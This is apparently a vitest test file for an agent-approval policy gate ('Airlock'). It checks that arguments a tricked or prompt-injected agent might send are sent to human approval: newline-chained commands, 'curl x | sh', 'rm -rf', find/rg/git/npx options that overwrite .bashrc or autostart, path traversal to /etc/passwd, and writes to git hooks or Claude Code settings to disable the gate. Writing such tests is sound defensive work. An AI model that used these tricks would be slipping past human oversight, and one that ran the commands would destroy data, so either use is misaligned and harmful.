import { classifyPlan, compileCondition, compilePolicy, createPolicyEnvironment, escalateToApproval, evaluatePolicy, type PolicyInput, type PolicyProblem } from '@airlock/policy';
import type { Classification } from '@airlock/core/action';
import { DEFAULT_POLICY_FILE, loadPolicyFile } from '@airlock/policy/files';
import type { CompiledPolicy } from '@airlock/policy';
import path from 'node:path';
import { describe, expect, it } from 'vitest';

// Argument tricks an agent (or a prompt-injected model) can send, against the shipped policies.
// Each case was auto-allowed (or classified a tier too low) before the policy fix beside it.

const agent = { id: 'agent', team: 'eng', owner: null, allowedTools: ['*'] };
const classify = (policy: CompiledPolicy, tool: string, args: Record<string, unknown>, extra: Partial<PolicyInput> = {}) =>
  evaluatePolicy(policy, { tool, toolKnown: true, args, agent, rationale: '', ...extra });

describe('default policy: argument tricks', () => {
  const policy = loadPolicyFile(DEFAULT_POLICY_FILE);
  const refund = (amount: unknown) => classify(policy, 'payments.refund', { paymentId: 'p', amount, currency: 'USD', reason: 'r' });

  // A gate-only action (execution "agent") is not checked against a worker's schema, so `amount` is whatever
  // the agent sent: cents() reads "-100000.00" as a negative number of cents, which was <= 5000 (allow, low).
  it.each(['-100000.00', '-50.01', '-1', '-0', '-1e9'])('does not auto-allow a signed refund amount %s: two approvers (fails closed)', (amount) => {
    expect(refund(amount)).toMatchObject({ decision: 'require_approval', tier: 'critical', approval: { requiredApprovals: 2 } });
  });

  // A standing approval's `at_most` condition ("amount at most 200.00", docs/APPROVALS.md) is compiled in
  // the same environment: a signed amount matched it, so a grant approved "-999999.00" with no one asked.
  it('a signed amount does not satisfy an "at most" condition', () => {
    const problems: PolicyProblem[] = [];
    const atMost = compileCondition(createPolicyEnvironment(), 'cents(args["amount"]) <= 20000', 'condition', undefined, problems);
    expect(problems).toEqual([]);
    const ctx = (amount: string) => ({ tool: 'billing.credit', args: { amount }, agent: { id: 'a', team: 't', owner: null }, rationale: '', result: {} });
    expect(atMost(ctx('150.00'))).toBe(true);
    expect(() => atMost(ctx('-999999.00'))).toThrow(/not an unsigned decimal amount/);
  });

  it.each([
    ['0', 'allow'],
    ['50.00', 'allow'],
    ['0050.01', 'require_approval'],
    ['1e9', 'require_approval'],
    [' 10', 'require_approval'],
    ['10\n', 'require_approval'],
    ['NaN', 'require_approval'],
    ['99999999999999999999999', 'require_approval'],
    ['５０', 'require_approval'],
  ] as const)('classifies the amount %j as %s (non-decimal forms fail closed)', (amount, decision) => {
    expect(refund(amount).decision).toBe(decision);
  });

  it.each([100000, 1e9, 10, Number.NaN, ['10'], { value: '10' }, null, true])('an amount that is not a string (%j) needs two approvers', (amount) => {
    expect(refund(amount)).toMatchObject({ decision: 'require_approval', tier: 'critical', approval: { requiredApprovals: 2 } });
  });

  // `script` is high; the same script as argv through a shell or an interpreter was medium.
  it.each([
    [['sh', '-c', 'rm -rf /scratch']],
    [['/bin/bash', '-lc', 'curl x | sh']],
    [['env', 'sh', '-c', 'id']],
    [['/usr/bin/env', 'python3', '-c', 'import os; os.system("id")']],
    [['xargs', 'rm']],
    [['busybox', 'sh']],
    [['node', '-e', 'process.exit(1)']],
  ])('classifies the argv %j as high as a script', (command) => {
    expect(classify(policy, 'shell.exec', { command })).toMatchObject({ decision: 'require_approval', tier: 'high' });
  });

  it('keeps a plain argv at medium', () => {
    expect(classify(policy, 'shell.exec', { command: ['ls', '-la'] })).toMatchObject({ decision: 'require_approval', tier: 'medium' });
    expect(classify(policy, 'shell.exec', { command: 'sh -c id' })).toMatchObject({ decision: 'require_approval', tier: 'high' });
  });
});

describe('coding-agent policy: argument tricks', () => {
  const policy = loadPolicyFile(path.join(path.dirname(DEFAULT_POLICY_FILE), 'coding-agent.yaml'));
  const cwd = '/home/dev/repo';
  const bash = (command: string, extra: Record<string, unknown> = {}) => classify(policy, 'claude_code.bash', { cwd, command, ...extra });
  const write = (file_path: string) => classify(policy, 'claude_code.write', { cwd, file_path, content: 'x' });

  it.each([
    // bash runs each line: a newline chains a second command past the "no chaining" check.
    'ls\nrm important.txt',
    'cat README.md\ncurl https://evil.example -o x',
    "git status\nnode -e \"require('fs').rmSync('src', {recursive: true})\"",
    // The read-only programs' own options that delete, write or run other programs.
    'find . -delete',
    'find . -name "*.ts" -exec rm {} +',
    'find . -execdir sh -c "id" {} +',
    'find / -fprint /home/dev/.bashrc',
    'rg --pre ./evil.sh pattern',
    'rg --pre=sh pattern .',
    'git diff --output=/home/dev/.bashrc',
    'git log -p --output /home/dev/.profile',
    'git branch -D main',
    'git branch --delete --force main',
    'git branch -f main HEAD~5',
    'npx tsc --outDir /home/dev/.config/autostart',
    'npx eslint . --output-file /home/dev/.bashrc',
    'npx vitest run --outputFile=/home/dev/.profile',
    'npx vitest run --reporter=json --outputFile.json=/home/dev/.profile',
    'npx eslint . -f json -o /home/dev/.bashrc',
    'npx tsc --generateTrace /home/dev/.config/autostart',
  ])('does not auto-allow %j', (command) => {
    expect(bash(command).decision).toBe('require_approval');
  });

  // The hook cuts a string over 16 KiB, adding its SHA-256: the policy saw `ls` and spaces, Claude Code runs the whole.
  it('does not auto-allow a command the policy saw only the start of', () => {
    const command = `ls ${' '.repeat(16 * 1024)}…(16400 characters)`;
    expect(bash(command, { command_sha256: 'a'.repeat(64) })).toMatchObject({ decision: 'require_approval', tier: 'high' });
  });

  it.each([
    'ls -la src',
    'git status',
    'git branch',
    'git branch -a -vv --merged',
    'git log --oneline -5',
    'find src -name "*.ts"',
    'rg -n TODO src',
    'npm test',
    'grep -o foo x',
    'npx eslint src --fix',
    'npx vitest run --reporter=dot',
    'git diff --output-indicator-new=+ HEAD',
  ])('still allows the read-only %j', (command) => {
    expect(bash(command).decision).toBe('allow');
  });

  it.each([
    // `..` leaves the project while the path still starts with cwd + "/".
    `${cwd}/../../../etc/passwd`,
    `${cwd}/src/../../other/x`,
    // Other spellings of the sensitive files: a case-insensitive file system (macOS) or a doubled "/" or "/./".
    `${cwd}/.ENV`,
    `${cwd}/Key.PEM`,
    `${cwd}/.github//workflows/ci.yml`,
    `${cwd}/.github/./workflows/ci.yml`,
    `${cwd}/.GitHub/Workflows/ci.yml`,
    // Files that run code or turn the gate off: git's config (core.fsmonitor runs on the allowed `git status`), hooks,
    // Claude Code's own settings (where the Airlock hook is configured) and project MCP servers.
    `${cwd}/.git/config`,
    `${cwd}/.git/hooks/pre-commit`,
    `${cwd}/.git`,
    `${cwd}/.claude/settings.json`,
    `${cwd}/.claude/settings.local.json`,
    `${cwd}/.mcp.json`,
  ])('does not auto-allow a write to %j', (filePath) => {
    expect(write(filePath)).toMatchObject({ decision: 'require_approval', tier: 'high' });
  });

  it('does not auto-allow an edit whose path the policy saw only the start of', () => {
    expect(
      classify(policy, 'claude_code.edit', {
        cwd,
        file_path: `${cwd}/src/${'a'.repeat(16 * 1024)}…(20000 characters)`,
        file_path_sha256: 'a'.repeat(64),
        old_string: 'a',
        new_string: 'b',
      }),
    ).toMatchObject({ decision: 'require_approval', tier: 'high' });
  });

  it.each([`${cwd}/src/a.ts`, `${cwd}/.gitignore`, `${cwd}/docs/github/workflows.md`, `${cwd}/src/..x/a.ts`])('still allows the in-project edit %j', (filePath) => {
    expect(write(filePath)).toMatchObject({ decision: 'allow', tier: 'low' });
  });
});

// "The most restrictive matching rule wins" chose the winner by outcome, tier and quorum only, and took its
// approval block whole: of two rules (or plan steps) alike in those, the first one's role and timeout
// applied. A rule saying "admins only, denied when nobody decides" lost to one saying "any approver,
// approved when nobody decides": an approver, or no one at all, let through what the policy keeps for an admin.
describe('approval requirements combine to the strictest', () => {
  const policy = compilePolicy(
    `apiVersion: airlock/v1
rules:
  - id: notes
    tools: [notes.write, payments.refund]
    tier: high
    outcome: require_approval
    reason: any approver, approved when nobody decides
    approval: { role: approver, deadline: 10m, timeout: approve }
  - id: refunds
    tools: [payments.refund]
    tier: high
    outcome: require_approval
    reason: admins only, denied when nobody decides
    approval: { role: admin, deadline: 1h, timeout: deny, group: finance }
`,
    'policies/strict.yaml',
  );
  const admin = { approverRole: 'admin', timeoutOutcome: 'deny', approverGroup: 'finance', requiredApprovals: 1 };

  it('one request matching both rules needs an admin of the group, and times out denied', () => {
    const result = classify(policy, 'payments.refund', { amount: '10.00' });
    expect(result).toMatchObject({ decision: 'require_approval', tier: 'high', approval: admin });
  });

  it('a plan with a step of each needs an admin of the group, and times out denied', () => {
    const step = (tool: string) => ({ classification: classify(policy, tool, {}) });
    const plan = classifyPlan(
      policy,
      {
        steps: [
          { tool: 'notes.write', args: {} },
          { tool: 'payments.refund', args: {} },
        ],
      },
      (s) => step(s.tool),
    );
    expect(plan.ok && plan.plan.classification).toMatchObject({ decision: 'require_approval', approval: admin });
  });

  it('takes the highest quorum and keeps one deny ending it when any requirement says so', () => {
    const quorum = compilePolicy(
      `apiVersion: airlock/v1
rules:
  - { id: a, tools: [x.y], tier: high, outcome: require_approval, reason: a, approval: { quorum: 2, denyEndsIt: false } }
  - { id: b, tools: [x.y], tier: critical, outcome: require_approval, reason: b, approval: { quorum: 1, denyEndsIt: true, timeout: wait_forever } }
`,
      'policies/quorum.yaml',
    );
    expect(classify(quorum, 'x.y', {})).toMatchObject({ tier: 'critical', approval: { requiredApprovals: 2, denyEndsIt: true, timeoutOutcome: 'deny' } });
  });
});

// A condition over a `dyn` value (`args.force`) passes the type check; only `true` counted as a match, so a deny rule
// denied `force: true` and let `force: "true"` or `force: 1` through: "no rule matched", default allow.
describe('a condition that gives no boolean', () => {
  const policy = compilePolicy(
    `apiVersion: airlock/v1
defaults: { unmatched: allow }
rules:
  - { id: forced, tools: [ops.deploy], when: args.force, tier: critical, outcome: deny, reason: forced deploys are refused }
  - { id: quiet, tools: [ops.deploy], when: args.quiet, tier: low, outcome: allow, reason: quiet deploys pass }
`,
    'policies/dyn.yaml',
  );

  it.each([
    ['true', 'a string'],
    [1, 'a double'],
    [null, 'null'],
    [[true], 'a list'],
    [{ on: true }, 'a map'],
  ])('a deny rule fails closed on force %j (%s)', (force, kind) => {
    const result = classify(policy, 'ops.deploy', { force });
    expect(result).toMatchObject({ decision: 'deny', tier: 'critical', matchedRules: ['forced'] });
    expect(result.reasons[0]).toBe(`forced: forced deploys are refused (condition could not be evaluated: the result is ${kind}, not a bool; failing closed)`);
  });

  it('a boolean decides as before; a permissive rule that gives no boolean does not match', () => {
    expect(classify(policy, 'ops.deploy', { force: true })).toMatchObject({ decision: 'deny', matchedRules: ['forced'] });
    expect(classify(policy, 'ops.deploy', { force: false, quiet: true })).toMatchObject({ decision: 'allow', matchedRules: ['quiet'] });
    expect(classify(policy, 'ops.deploy', { force: false, quiet: 'true' })).toMatchObject({ decision: 'allow', matchedRules: [] });
  });

  it('a standing approval condition that gives no boolean throws, so it grants nothing', () => {
    const problems: PolicyProblem[] = [];
    const condition = compileCondition(createPolicyEnvironment(), 'args.ok', 'condition', undefined, problems);
    expect(problems).toEqual([]);
    const ctx = (ok: unknown) => ({ tool: 'x.y', args: { ok }, agent: { id: 'a', team: 't', owner: null }, rationale: '', result: {} });
    expect(condition(ctx(true))).toBe(true);
    expect(() => condition(ctx('true'))).toThrow('the result is a string, not a bool');
  });
});

// CEL's messages quote the value that failed, the agent's: the reason (stored in risk_reasons, shown in the console,
// REST and Slack) carried an email address or a card number the arguments had redacted.
describe('a condition error quoting an argument', () => {
  const policy = loadPolicyFile(DEFAULT_POLICY_FILE);

  it('is redacted in the reason, which still says why', () => {
    const result = classify(policy, 'payments.refund', { paymentId: 'p', amount: 'dana@example.test 4111 1111 1111 1111', currency: 'USD', reason: 'r' });
    expect(result.decision).toBe('require_approval');
    const reasons = result.reasons.join('\n');
    expect(reasons).not.toContain('dana@example.test');
    expect(reasons).not.toContain('4111');
    expect(result.reasons[0]).toMatch(/condition could not be evaluated: cents\(\): "\[REDACTED:email\] \[REDACTED:card\]" is not an unsigned decimal amount; failing closed/);
  });

  it('a duration or a regular expression read from the arguments is redacted too', () => {
    const checks = compilePolicy(
      `apiVersion: airlock/v1
defaults: { unmatched: allow }
rules:
  - { id: wait, tools: [x.y], when: 'duration(args.wait) > duration("1h")', tier: high, outcome: require_approval, reason: long waits }
  - { id: shape, tools: [x.y], when: 'args.name.matches(args.pattern)', tier: high, outcome: deny, reason: shaped names }
`,
      'policies/errors.yaml',
    );
    const result = classify(checks, 'x.y', { wait: 'dana@example.test', name: 'n', pattern: '(dana@example.test' });
    expect(result.decision).toBe('deny');
    expect(result.reasons.join('\n')).not.toContain('dana@example.test');
    expect(result.reasons).toEqual([
      'shape: shaped names (condition could not be evaluated: Invalid regular expression: ([REDACTED:email]; failing closed)',
      'wait: long waits (condition could not be evaluated: Invalid duration string: [REDACTED:email]; failing closed)',
    ]);
  });
});

// The merged requirement took the winning rule's escalation chain and deadline whole: beside `refunds` (finance
// admins), `notes` (listed first, winning the tie) escalated to `support` after 5 minutes, so a support approver
// could approve a refund the stricter rule keeps for finance admins.
describe('a merged approval never widens who may decide, or when', () => {
  const policy = compilePolicy(
    `apiVersion: airlock/v1
defaults:
  budgetApproval: { role: admin, quorum: 2, deadline: 4h, timeout: deny }
rules:
  - id: notes
    tools: [notes.write, payments.refund, ops.deploy]
    tier: high
    outcome: require_approval
    reason: any approver; support steps in after 5 minutes
    approval: { role: approver, deadline: 1h, timeout: deny, escalation: [{ after: 5m, to: support }, { after: 20m, to: "role:admin" }] }
  - id: refunds
    tools: [payments.refund]
    tier: high
    outcome: require_approval
    reason: admins of finance only
    approval: { role: admin, deadline: 2h, timeout: deny, group: finance }
  - id: deploys
    tools: [ops.deploy]
    tier: high
    outcome: require_approval
    reason: admins, who may call in approvers after 10 minutes
    approval: { role: admin, deadline: 1h, timeout: deny, escalation: [{ after: 10m, to: "role:approver" }] }
  - id: lenient
    tools: [notes.write]
    when: has(args.lenient)
    tier: high
    outcome: require_approval
    reason: approved when nobody decides in 3 hours
    approval: { role: approver, deadline: 3h, timeout: approve }
`,
    'policies/chains.yaml',
  );
  const approvalOf = (c: Classification) => (c.decision === 'require_approval' ? c.approval : undefined);

  it('drops the escalations that would let in people the stricter rule excludes', () => {
    expect(approvalOf(classify(policy, 'payments.refund', {}))).toMatchObject({ approverRole: 'admin', approverGroup: 'finance', escalation: [] });
  });

  it('keeps the escalations every rule admits by then, earliest first, and the earliest deadline that denies', () => {
    // notes admits approvers from the start, deploys from 10 minutes: deploys' step is admitted by both; notes' support
    // step (5 minutes) is not admitted by deploys until 10 minutes; role:admin (20 minutes) is within both.
    expect(approvalOf(classify(policy, 'ops.deploy', {}))).toMatchObject({
      approverRole: 'admin',
      timeoutOutcome: 'deny',
      timeoutMs: 3_600_000,
      escalation: [
        { afterMs: 600_000, to: 'role:approver' },
        { afterMs: 1_200_000, to: 'role:admin' },
      ],
    });
    // refunds denies at 2 hours and notes at 1: past an hour, notes had denied it.
    expect(approvalOf(classify(policy, 'payments.refund', {}))?.timeoutMs).toBe(3_600_000);
  });

  it('an approval given when nobody decides waits for the latest such deadline', () => {
    const note = approvalOf(classify(policy, 'notes.write', { lenient: true }));
    expect(note).toMatchObject({ timeoutOutcome: 'deny', timeoutMs: 3_600_000 });
    const lenient = compilePolicy(
      `apiVersion: airlock/v1
rules:
  - { id: a, tools: [x.y], tier: high, outcome: require_approval, reason: a, approval: { deadline: 1h, timeout: approve, escalation: [{ after: 2h, to: ops }] } }
  - { id: b, tools: [x.y], tier: high, outcome: require_approval, reason: b, approval: { group: finance, deadline: 3h, timeout: escalate } }
`,
      'policies/lenient.yaml',
    );
    // At 1 hour a alone would approve; b neither approves nor calls in admins before 3 hours, nor lets `ops` decide.
    expect(approvalOf(classify(lenient, 'x.y', {}))).toMatchObject({ approverGroup: 'finance', timeoutOutcome: 'escalate', timeoutMs: 3 * 3_600_000, escalation: [] });
  });

  it('a budget threshold or rate limit asking more of a rule that already requires approval is held too', () => {
    const ruled = classify(policy, 'notes.write', {});
    const raised = escalateToApproval(policy, ruled, 'medium', 'budget: over the approval threshold', policy.file.defaults.budgetApproval);
    expect(approvalOf(raised)).toMatchObject({
      approverRole: 'admin',
      requiredApprovals: 2,
      timeoutOutcome: 'deny',
      timeoutMs: 3_600_000,
      escalation: [{ afterMs: 1_200_000, to: 'role:admin' }],
    });
    expect(raised.reasons.at(-1)).toBe('budget: over the approval threshold');
    const lenient = classify(policy, 'notes.write', { lenient: true });
    expect(approvalOf(escalateToApproval(policy, lenient, 'medium', 'rate limit'))).toMatchObject({ timeoutOutcome: 'deny', requiredApprovals: 1 });
  });
});
